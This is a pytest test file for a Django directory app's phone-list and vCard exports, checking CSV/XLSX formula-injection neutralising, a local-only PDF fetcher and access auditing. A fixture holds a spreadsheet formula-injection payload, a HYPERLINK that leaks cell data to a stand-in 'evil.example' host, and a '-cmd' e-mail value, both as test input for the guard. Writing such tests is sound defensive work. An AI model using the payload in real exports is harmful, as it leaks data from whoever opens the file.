"""Downloads of the directory: the phone list as PDF, CSV, XLSX and vCards, and contact cards."""

import csv
import datetime as dt
import io
import re
from pathlib import Path

import openpyxl
import pytest
import vobject
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone, translation
from django.utils.translation import pgettext
from pypdf import PdfReader

from inprocedere.core.models import AuditEntry
from inprocedere.network import export_views
from inprocedere.network.exports import (
    Table,
    find_static,
    local_only_fetcher,
    neutralise,
    pdf,
    render_csv,
    render_xlsx,
)
from inprocedere.network.exports.phone_list import breakable_email
from inprocedere.network.models import Organisation, Person, Position, Tenure

pytestmark = pytest.mark.django_db

EN = {"HTTP_ACCEPT_LANGUAGE": "en"}
DE = {"HTTP_ACCEPT_LANGUAGE": "de"}
MALICIOUS = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
PHONE_LIST = {
    "pdf": "/directory/phone-list.pdf",
    "csv": "/directory/phone-list.csv",
    "xlsx": "/directory/phone-list.xlsx",
    "vcard": "/directory/phone-list.vcf",
}


def active_positions():
    return Position.objects.filter(is_active=True).count()


def filename(response):
    match = re.fullmatch(r'attachment; filename="([^"]+)"', response["Content-Disposition"])
    assert match, response["Content-Disposition"]
    return match[1]


def today():
    return timezone.localdate().isoformat()


@pytest.fixture
def malicious_position():
    organisation = Organisation.objects.get(name="Kreisverwaltung Germersheim")
    return Position.objects.create(
        organisation=organisation,
        title=MALICIOUS,
        phone="+49 7274 53-399",
        email="-cmd@kreis-germersheim.example",
    )


# --- the formula-injection guard --------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+49 6131 2404112", "'+49 6131 2404112"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("06131 2404112", "06131 2404112"),
        ("Sabine Keller", "Sabine Keller"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
    ],
)
def test_formula_like_cells_get_a_leading_apostrophe(value, expected):
    assert neutralise(value) == expected


def test_renderers_neutralise_every_cell_header_included():
    table = Table(title="t", header=["=evil"], rows=[["+1", "ok"]])
    rows = list(csv.reader(io.StringIO(render_csv(table).decode("utf-8-sig")), delimiter=";"))
    assert rows == [["'=evil"], ["'+1", "ok"]]
    sheet = openpyxl.load_workbook(io.BytesIO(render_xlsx(table))).active
    assert [(c.value, c.data_type, c.quotePrefix) for c in sheet[2]] == [
        ("+1", "s", True),
        ("ok", "s", False),
    ]
    assert sheet["A1"].data_type == "s"


# --- PDF ---------------------------------------------------------------------------------


def test_phone_list_pdf_is_an_a4_list_grouped_by_organisation(
    client_for, malicious_position, django_assert_max_num_queries
):
    client = client_for("case_worker")
    with django_assert_max_num_queries(12):
        response = client.get(PHONE_LIST["pdf"], **EN)

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert filename(response) == f"phone-list-{today()}.pdf"
    assert response["Cache-Control"] == "no-store"
    reader = PdfReader(io.BytesIO(response.content))
    for page in reader.pages:
        assert float(page.mediabox.width) == pytest.approx(595.28, abs=1)
        assert float(page.mediabox.height) == pytest.approx(841.89, abs=1)
    text = " ".join(" ".join(page.extract_text().split()) for page in reader.pages)
    # Table cells hyphenate (pdf.css): WeasyPrint's hyphen (U+2010) ends the line.
    text = re.sub(r"\u2010 (?=[a-zäöüß])", "", text)
    assert "Phone list of the network" in text
    for expected in (
        "Kreisverwaltung Germersheim",
        "Sabine Keller",
        "Projektkoordination",
        "Dr. Viola Hartmann",
        "06131 2404112",  # the position's direct dial, national format
        "06131 2404113",  # the holder's personal direct dial
        "vacant – deputy: Ausländerbehörde – Sachgebietsleitung (Thomas Wagner)",
        "Switchboard",
        "=HYPERLINK(",  # in a PDF it is only text
    ):
        assert expected in text, expected
    assert "<wbr>" not in text
    assert f"Page 1 of {len(reader.pages)}" in text
    assert reader.metadata.title == "Phone list of the network"
    # Grouped: each organisation's heading once, in alphabetical order.
    assert text.index("Diakonisches Werk") < text.index("Kreisverwaltung Germersheim")


def test_phone_list_pdf_in_german_prints_the_date_in_german_format(client_for):
    response = client_for("coordinator").get(PHONE_LIST["pdf"], **DE)

    assert response.status_code == 200
    with translation.override("de"):
        stem = pgettext("file name, lower case without spaces", "phone-list")
    assert filename(response) == f"{stem}-{today()}.pdf"
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    assert timezone.localdate().strftime("%d.%m.%Y") in text


def test_pdf_uses_fira_sans_when_the_fonts_are_installed(client_for):
    if find_static("vendor/kern/fonts/fira-sans/FiraSans-Regular.woff2") is None:
        pytest.skip("KERN fonts not installed (make assets)")
    response = client_for("case_worker").get(PHONE_LIST["pdf"])
    reader = PdfReader(io.BytesIO(response.content))
    fonts = {
        str(font.get_object()["/BaseFont"])
        for font in reader.pages[0]["/Resources"]["/Font"].values()
    }
    assert any("Fira" in font for font in fonts), fonts


def test_pdf_falls_back_to_the_system_sans_serif_without_fira(monkeypatch):
    monkeypatch.setattr(pdf, "FONT_FOLDER", "vendor/not-installed")
    reader = PdfReader(io.BytesIO(pdf.render_pdf("<p>Telefonliste</p>")))
    assert "Telefonliste" in reader.pages[0].extract_text()
    fonts = {
        str(f.get_object()["/BaseFont"]) for f in reader.pages[0]["/Resources"]["/Font"].values()
    }
    assert not any("Fira" in font for font in fonts)


def test_the_pdf_fetcher_never_leaves_the_machine(tmp_path):
    allowed = tmp_path / "static"
    allowed.mkdir()
    (allowed / "ok.css").write_text("p {}")
    secret = tmp_path / "secret.txt"
    secret.write_text("no")
    fetcher = local_only_fetcher([allowed])

    assert fetcher.fetch((allowed / "ok.css").as_uri()).read() == b"p {}"
    assert fetcher.fetch("data:text/plain,hello").read() == b"hello"
    for url in (
        "https://example.org/font.woff2",
        "http://127.0.0.1:9/x.css",
        "ftp://example.org/x",
        secret.as_uri(),
        (allowed / ".." / "secret.txt").as_uri(),
    ):
        with pytest.raises(ValueError):
            fetcher.fetch(url)


def test_pdf_stylesheet_exists():
    css = find_static("inprocedere/pdf.css")
    assert css is not None
    assert "size: A4 portrait" in Path(css).read_text()


# --- CSV and XLSX -------------------------------------------------------------------------


def test_phone_list_csv_opens_in_german_excel(client_for, malicious_position):
    response = client_for("case_worker").get(PHONE_LIST["csv"], **EN)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert filename(response) == f"phone-list-{today()}.csv"
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == [
        "Organisation",
        "Position",
        "Holders",
        "Direct dial",
        "E-mail",
        "Deputy",
        "Topics",
        "Regions",
    ]
    assert len(rows) == 1 + active_positions()
    by_title = {row[1]: row for row in rows[1:]}
    keller = by_title["Ausländerbehörde – Aufenthaltsrecht und Beschäftigung"]
    assert keller[0] == "Kreisverwaltung Germersheim"
    assert keller[2] == "Sabine Keller"
    assert keller[3] == "07274 53312"
    assert keller[4] == "auslaenderbehoerde@kreis-germersheim.example"
    assert keller[5] == "Ausländerbehörde – Sachgebietsleitung (Markus Fischer)"
    vacant = by_title["Ausländerbehörde – Aufenthaltsrecht (Projekt InProcedere)"]
    assert vacant[2] == "vacant"
    assert vacant[5] == "Ausländerbehörde – Sachgebietsleitung (Thomas Wagner)"
    # Neutralised: the formula and the e-mail starting with "-" get an apostrophe.
    evil = by_title[f"'{MALICIOUS}"]
    assert evil[4] == "'-cmd@kreis-germersheim.example"
    assert evil[3] == "07274 53399"
    assert all(not row[3] or row[3].startswith("0") for row in rows[1:])
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_phone_list_xlsx_keeps_text_as_text(client_for, malicious_position):
    response = client_for("case_worker").get(PHONE_LIST["xlsx"], **EN)

    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert filename(response) == f"phone-list-{today()}.xlsx"
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    assert header[:4] == ["Organisation", "Position", "Holders", "Direct dial"]
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.max_row == 1 + active_positions()
    rows = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
    evil = rows[MALICIOUS]
    assert evil[1].data_type == "s"  # a string, never a formula
    assert evil[1].quotePrefix
    assert evil[4].value == "-cmd@kreis-germersheim.example"
    assert evil[4].data_type == "s"
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type != "f" for cell in row)
        assert row[3].value is None or row[3].value.startswith("0")
    assert sheet.column_dimensions["A"].width > 20  # roughly as wide as the names


# --- vCards ------------------------------------------------------------------------------


def test_position_vcard_is_the_positions_contact(client_for):
    position = Position.objects.get(title="Ausländerbehörde – Aufenthaltsrecht und Beschäftigung")
    response = client_for("case_worker").get(f"/directory/positions/{position.pk}/vcard.vcf", **EN)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/vcard; charset=utf-8"
    assert filename(response).endswith(".vcf")
    card = vobject.readOne(response.content.decode())
    assert card.version.value == "3.0"
    assert card.fn.value == f"{position.title} (Kreisverwaltung Germersheim)"
    assert card.org.value == ["Kreisverwaltung Germersheim"]
    assert card.title.value == position.title
    assert card.tel.value == "+49727453312"
    assert card.tel.params["TYPE"] == ["WORK", "VOICE"]
    assert card.email.value == "auslaenderbehoerde@kreis-germersheim.example"
    assert "Sabine Keller" in card.note.value
    assert card.uid.value.endswith(f"/directory/positions/{position.pk}/")
    entry = AuditEntry.objects.get(action="network.position.exported")
    assert entry.object_id == str(position.pk)
    assert entry.detail == {"format": "vcard"}


def test_vacant_position_vcard_names_the_deputy(client_for):
    position = Position.objects.get(title__contains="(Projekt InProcedere)")
    response = client_for("case_worker").get(f"/directory/positions/{position.pk}/vcard.vcf", **EN)
    card = vobject.readOne(response.content.decode())
    assert card.note.value.startswith("vacant – deputy:")
    assert "Thomas Wagner" in card.note.value


def test_person_vcard(client_for):
    person = Person.objects.get(family_name="Hartmann")
    response = client_for("case_worker").get(f"/directory/people/{person.pk}/vcard.vcf")

    assert response.status_code == 200
    assert filename(response) == "dr-viola-hartmann.vcf"
    card = vobject.readOne(response.content.decode())
    assert card.n.value.family == "Hartmann"
    assert card.n.value.given == "Viola"
    assert card.n.value.prefix == "Dr."
    assert card.fn.value == "Dr. Viola Hartmann"
    assert card.tel.value == "+4961312404113"
    assert card.email.value == person.email
    assert card.org.value == ["Institut für Sozialpädagogische Forschung Mainz e.V."]
    assert card.title.value == "Projektkoordination"
    entry = AuditEntry.objects.get(action="network.person.exported")
    assert entry.object_id == str(person.pk)


def test_phone_list_vcf_has_one_card_per_position(client_for):
    response = client_for("case_worker").get(PHONE_LIST["vcard"])

    assert response.status_code == 200
    assert response["Content-Type"] == "text/vcard; charset=utf-8"
    cards = list(vobject.readComponents(response.content.decode()))
    assert len(cards) == active_positions()
    assert len({card.uid.value for card in cards}) == len(cards)
    assert all(card.tel.value.startswith("+49") for card in cards if hasattr(card, "tel"))
    assert "Projektkoordination (Institut für Sozialpädagogische Forschung Mainz e.V.)" in {
        card.fn.value for card in cards
    }


# --- access, methods, audit, queries --------------------------------------------------------


ALL_URLS = [
    *PHONE_LIST.values(),
    "/directory/positions/1/vcard.vcf",
    "/directory/people/1/vcard.vcf",
]


@pytest.mark.parametrize("url", ALL_URLS)
def test_anonymous_visitors_are_sent_to_sign_in(client, url):
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/?next=")


@pytest.mark.parametrize("url", ALL_URLS)
def test_only_get_and_head_are_allowed(client_for, url):
    client = client_for("case_worker")
    assert client.post(url).status_code == 405
    assert client.put(url).status_code == 405
    assert client.delete(url).status_code == 405


def test_head_is_allowed(client_for):
    response = client_for("case_worker").head(PHONE_LIST["csv"])
    assert response.status_code == 200
    assert response.content == b""


@pytest.mark.parametrize(
    "view",
    [
        export_views.phone_list_pdf,
        export_views.phone_list_csv,
        export_views.phone_list_xlsx,
        export_views.phone_list_vcard,
        export_views.position_vcard,
        export_views.person_vcard,
    ],
)
def test_every_download_needs_directory_read(view):
    assert view.required_permission == "directory.read"


@pytest.mark.parametrize(
    "url", ["/directory/positions/{}/vcard.vcf", "/directory/people/{}/vcard.vcf"]
)
def test_unknown_records_are_not_found(client_for, url):
    assert client_for("case_worker").get(url.format(999999)).status_code == 404


def test_every_persona_may_download_the_phone_list(client_for, persona):
    response = client_for(persona).get(PHONE_LIST["csv"])
    assert response.status_code == 200
    assert response["Cache-Control"] == "no-store"


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "vcard"])
def test_each_download_is_audited(client_for, user_for, fmt):
    client_for("case_worker").get(PHONE_LIST[fmt])
    entry = AuditEntry.objects.filter(action="network.phone_list.exported").latest("pk")
    assert entry.actor == user_for("case_worker")
    assert entry.detail == {"format": fmt, "rows": active_positions()}
    assert entry.ip_address == "127.0.0.1"


@pytest.mark.parametrize("fmt", ["pdf", "csv", "xlsx", "vcard"])
def test_downloads_cost_the_same_queries_for_more_positions(client_for, fmt):
    client = client_for("case_worker")
    client.get(PHONE_LIST[fmt])  # warm the session

    def queries():
        with CaptureQueriesContext(connection) as context:
            assert client.get(PHONE_LIST[fmt]).status_code == 200
        return len(context)

    before = queries()
    assert before <= 10
    organisation = Organisation.objects.get(name="Jobcenter Landau")
    deputy = Position.objects.filter(organisation=organisation).first()
    for number in range(15):
        position = Position.objects.create(
            organisation=organisation,
            title=f"Sachbearbeitung {number}",
            phone=f"+49 6341 9583{number:02d}",
            deputy=deputy,
        )
        person = Person.objects.create(given_name="Test", family_name=f"Person {number}")
        Tenure.objects.create(position=position, person=person, starts_on=dt.date(2020, 1, 1))
    assert queries() == before


def test_printed_e_mails_wrap_at_the_at_sign_and_dots_and_stay_escaped():
    assert breakable_email("a<b@kreis-germersheim.example") == (
        "a&lt;b@<wbr>kreis-germersheim<wbr>.example"
    )
    assert breakable_email("") == ""
